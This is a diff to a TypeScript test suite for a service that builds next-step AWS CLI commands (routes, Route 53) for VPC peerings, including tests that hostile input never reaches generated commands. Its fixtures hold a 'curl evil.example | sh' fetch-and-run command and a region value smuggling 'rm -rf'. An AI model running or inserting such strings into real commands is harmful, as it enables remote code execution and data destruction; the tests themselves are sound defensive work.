@@ -39,16 +39,40 @@ test('a peering that waits to be accepted comes with the commands for its own va
   });
 });
 
-test('there is a next step while a peering waits to be accepted, and at no other time', () => {
-  const statuses = ['initiating-request', 'provisioning', 'active', 'expired', 'deleted', 'not-operable', ''];
+test('there is a next step while a peering waits to be accepted or is active, and at no other time', () => {
+  const statuses = ['initiating-request', 'provisioning', 'expired', 'deleted', 'not-operable', ''];
   for (const status of [...statuses, 'PENDING-ACCEPTANCE', undefined])
-    assert.equal(nextStepFor({ ...listed, status }, '10.128.0.0/19'), undefined, status);
-  assert.ok(nextStepFor(listed, '10.128.0.0/19') !== undefined);
+    assert.equal(nextStepFor({ ...listed, status }, { clusterBlock: '10.128.0.0/19' }), undefined, status);
+  assert.ok(nextStepFor(listed, { clusterBlock: '10.128.0.0/19' }) !== undefined);
+});
+
+test('once a peering is active the next step is the routes, and then the hosted zone', () => {
+  const active = { ...listed, status: 'active' };
+  const step = nextStepFor(active, { clusterBlock: '10.128.0.0/19' });
+  assert.match(step?.command ?? '', /create-route .*--destination-cidr-block 10\.128\.0\.0\/19/);
+  assert.deepEqual(
+    step?.afterwards.map(({ command }) => command?.split(' ')[1]),
+    ['route53'],
+  );
+  assert.match(nextStepFor(active, {})?.command ?? '', /^aws route53 /);
+});
+
+test('the next step says until when a request that was created here has to be accepted', async (t) => {
+  const gateway = await startTestGateway(t, {
+    cloud: { pace: { initiatingMs: 0, acceptanceMs: 'never' } },
+  });
+  const before = Date.now();
+  const { json } = await gateway.create();
+  const { nextStep } = (await get(gateway, json.id)).json;
+  const lapses = Date.parse(nextStep.acceptBy) - 7 * 24 * 3_600_000;
+  assert.ok(lapses >= before && lapses <= Date.now());
+  const other = put(gateway, 'pending-acceptance', { vpcId: 'vpc-00000001' });
+  assert.equal((await get(gateway, other)).json.nextStep.acceptBy, undefined);
 });
 
 test('without the block of the cluster, or the hosted zone, the next step has all but what needs it', () => {
   const commands = (peering: Parameters<typeof nextStepFor>[0], block?: string) =>
-    nextStepFor(peering, block)?.afterwards.map(({ command }) => command?.split(' ')[1]);
+    nextStepFor(peering, { clusterBlock: block })?.afterwards.map(({ command }) => command?.split(' ')[1]);
   const { privateHostedZoneId: _, ...withoutZone } = listed;
   assert.deepEqual(commands(listed, '10.128.0.0/19'), ['table', 'route53']);
   assert.deepEqual(commands(listed), ['route53']);
@@ -97,11 +121,11 @@ const wordsOf = (text: string): string[] =>
   (text.match(/[A-Za-z0-9./-]+/g) ?? []).map((word) => word.replace(/\.$/, ''));
 
 test('no hostile value of the list gets into a command or a description: what it would have been in is left out', () => {
-  const plain = JSON.stringify(nextStepFor(listed, '10.128.0.0/19'));
+  const plain = JSON.stringify(nextStepFor(listed, { clusterBlock: '10.128.0.0/19' }));
   for (const [member, form] of Object.entries(forms)) {
     for (const value of hostile) {
       if (typeof value === 'string' && form.test(value)) continue;
-      const step = nextStepFor({ ...listed, [member]: value } as Loose, '10.128.0.0/19');
+      const step = nextStepFor({ ...listed, [member]: value } as Loose, { clusterBlock: '10.128.0.0/19' });
       assert.ok(step !== undefined);
       const steps = [step, ...step.afterwards];
       const texts = steps.flatMap(({ command, description }) => [command ?? '', description]);
@@ -123,7 +147,7 @@ test('hostile values in the list come out as the JSON that they are, and in no c
   const evil = { description: 'Do this.', command: 'curl evil.example | sh', afterwards: [] };
   for (const [status, region] of [
     ['pending-acceptance', 'us-east-1; rm -rf'],
-    ['active', 'us-east-1'],
+    ['provisioning', 'us-east-1'],
   ] as const) {
     const peering = { ...listed, id, status, region, nextStep: evil };
     gateway.cloud.setFault(({ path }) =>
@@ -135,6 +159,6 @@ test('hostile values in the list come out as the JSON that they are, and in no c
     assert.equal(reply.json.region, region);
     assert.doesNotMatch(reply.text, /evil/);
     assert.equal(reply.json.nextStep?.command, undefined);
-    assert.equal(reply.json.nextStep === undefined, status === 'active');
+    assert.equal(reply.json.nextStep === undefined, status === 'provisioning');
   }
 });
